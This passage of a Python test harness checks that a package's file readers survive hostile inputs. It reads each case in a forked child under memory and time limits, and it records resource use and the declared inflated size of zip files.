        return {"got": f"crash:{type(exc).__name__}", "message": repr(exc)[:500]}


def _inflated(path: Path) -> int | None:
    """Bytes a zip file's members declare when inflated (None for other files)."""
    try:
        with zipfile.ZipFile(path) as zf:
            return sum(i.file_size for i in zf.infolist())
    except (zipfile.BadZipFile, OSError, ValueError, EOFError):
        return None


def check_isolated(outdir: str | Path, *, max_seconds: float | None = None, max_mb: int | None = None,
                   names: list[str] | None = None, cases: list[Case] | None = None,
                   wall_factor: float = 1.0) -> list[dict]:
    """Read every case in a forked child with an address-space limit and a time limit.

    The parent imports mcqual's readers once, then forks one child per case: the child sets
    ``RLIMIT_AS`` to ``max_mb`` MiB and is killed after ``max_seconds``; its peak RSS comes
    from ``os.wait4``. POSIX only.
    """
    import json
    import os
    import resource
    import signal
    import time

    import mcqual as mq  # noqa: F401 - warm imports before forking
    from mcqual.codebook import load as _cb  # noqa: F401
    from mcqual.io import docx as _d, survey as _s, text as _t, transcripts as _tr, xlsx as _x  # noqa: F401
    from mcqual.exchange import qdpx as _q, qdpx_read as _qr  # noqa: F401

    out = Path(outdir)
    results = []
    for case in cases or CASES:
        if names and case.name not in names:
            continue
        seconds = (max_seconds if max_seconds is not None else case.max_seconds) * wall_factor
        mb = max_mb if max_mb is not None else case.max_mb
        path = out / case.filename
        r, w = os.pipe()
        t0 = time.monotonic()
        pid = os.fork()
        if pid == 0:  # child
            os.close(r)
            try:
                limit = mb * 2**20
                resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
                res = read_case(path, case)
            except BaseException as exc:  # noqa: BLE001
                res = {"got": f"crash:{type(exc).__name__}", "message": repr(exc)[:500]}
            with os.fdopen(w, "w") as fh:
                fh.write(json.dumps(res))
            os._exit(0)
        os.close(w)
        status = rusage = None
        while time.monotonic() - t0 < seconds:
            done, status, rusage = os.wait4(pid, os.WNOHANG)
            if done:
                break
            time.sleep(0.01)
        else:
            os.kill(pid, signal.SIGKILL)
            _, status, rusage = os.wait4(pid, 0)
            status = "timeout"
        elapsed = time.monotonic() - t0
        with os.fdopen(r) as fh:
            raw = fh.read()
        res = json.loads(raw) if raw else {"got": "timeout" if status == "timeout" else f"died:{status}",
                                           "message": ""}
        res.update(cpu_seconds=round(rusage.ru_utime + rusage.ru_stime, 3) if rusage else None)
        res.update(name=case.name, file=case.filename, expected=case.expected, seconds=round(elapsed, 3),
                   limit_seconds=seconds, limit_mb=mb, bytes=path.stat().st_size if path.exists() else None,
                   inflated=_inflated(path),
                   max_rss_mb=round(rusage.ru_maxrss / 1024, 1) if rusage else None)
        results.append(res)
    return results


def main(argv: list[str]) -> int:
    if len(argv) == 2 and argv[0] == "--check":
        import json

        for res in check_isolated(argv[1]):
            print(json.dumps(res))
        return 0
    if len(argv) >= 2 and argv[0] == "--check-large":  # --check-large OUTDIR [name ...]: write and check
        import json

        names = argv[2:] or None
        write_all(argv[1], [c for c in LARGE_CASES if not names or c.name in names])
        for res in check_isolated(argv[1], cases=LARGE_CASES, names=names, wall_factor=4.0):
            print(json.dumps(res), flush=True)
        return 0
    if len(argv) != 1:
        print("usage: python tests/hostile.py OUTDIR  |  python tests/hostile.py --check OUTDIR  |  "
              "python tests/hostile.py --check-large OUTDIR [case ...]", file=sys.stderr)
        return 2
    written = write_all(argv[0])
    lines = ["file\treader\texpected\tnote"] + [f"{p.name}\t{c.reader}\t{c.expected}\t{c.note}" for p, c in written]
    (Path(argv[0]) / "cases.tsv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"wrote {len(written)} hostile files to {argv[0]}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
